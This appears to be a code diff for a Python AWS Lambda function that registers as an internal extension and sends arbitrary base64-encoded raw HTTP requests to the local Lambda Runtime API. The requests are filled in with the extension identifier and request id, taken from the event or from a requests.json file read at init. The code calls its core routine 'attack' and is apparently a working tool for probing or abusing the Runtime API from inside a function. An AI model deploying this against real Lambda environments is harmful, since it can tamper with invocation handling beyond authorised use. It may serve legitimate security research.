@@ -1,6 +1,7 @@
 """A function that sends what it is told to its Runtime API, as runtime and as an internal extension."""
 
 import base64
+import json
 import os
 import socket
 import sys
@@ -28,15 +29,28 @@ def identifier():
     return head.partition("lambda-extension-identifier: ")[2].partition("\r\n")[0]
 
 
-IDENTIFIER = identifier()
-
-
-def handler(event, context):
+def attack(requests, request_id=""):
     """Sends the requests and says the first line of each answer."""
-    for number, encoded in enumerate(event["requests"]):
+    for number, encoded in enumerate(requests):
         data = base64.b64decode(encoded)
-        data = data.replace(b"IDENTIFIER", IDENTIFIER.encode()).replace(b"REQUEST", context.aws_request_id.encode(), 1)
+        data = data.replace(b"IDENTIFIER", IDENTIFIER.encode(), 1).replace(b"REQUEST", request_id.encode(), 1)
         answer = exchange(data).partition(b"\r\n")[0].decode("latin-1")
         sys.stderr.write("answer {}: {}\n".format(number, answer))
         sys.stderr.flush()
+
+
+IDENTIFIER = identifier()
+if os.path.exists("requests.json"):  # what can only be asked for in Init
+    with open("requests.json") as file:
+        attack(json.load(file))
+NEXT = socket.create_connection((HOST, int(PORT)))
+NEXT.sendall(
+    b"GET /2020-01-01/extension/event/next HTTP/1.1\r\nHost: 127.0.0.1\r\n"
+    b"Lambda-Extension-Identifier: " + IDENTIFIER.encode() + b"\r\n\r\n"
+)
+
+
+def handler(event, context):
+    """Attacks as it is told."""
+    attack(event["requests"], context.aws_request_id)
     return []
